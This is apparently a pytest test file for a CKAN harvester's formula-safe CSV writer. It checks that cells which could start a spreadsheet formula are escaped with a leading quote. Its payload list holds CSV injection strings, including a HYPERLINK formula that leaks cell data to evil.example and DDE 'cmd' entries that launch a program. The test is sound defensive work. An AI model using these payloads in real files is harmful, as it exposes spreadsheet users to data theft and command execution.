"""Formula-safe CSV: no cell a spreadsheet would run (OWASP CSV injection payloads)."""

from __future__ import annotations

import csv
import io

import pytest

from ckanext.partnercity.harvesters.csv_safe import csv_text, safe_cell

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "-",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_cell_that_could_start_a_formula_starts_with_a_quote(payload):
    assert safe_cell(payload) == "'" + payload
    [row] = list(csv.reader(io.StringIO(csv_text([["x", payload, 3]]), newline="")))
    assert row == ["x", "'" + payload, "3"]


@pytest.mark.parametrize("value", ["Umwelt", "Luft = gut", "a-b", "", "'quoted", 7, 1.5, None])
def test_other_cells_stay_as_they_are(value):
    assert safe_cell(value) == value


def test_text_is_quoted_so_a_semicolon_never_starts_a_cell():
    text = csv_text([["Umwelt;=1+1", 2]])
    assert text == '"Umwelt;=1+1",2\r\n'
    assert csv_text([["a"]], lineterminator="\n") == '"a"\n'
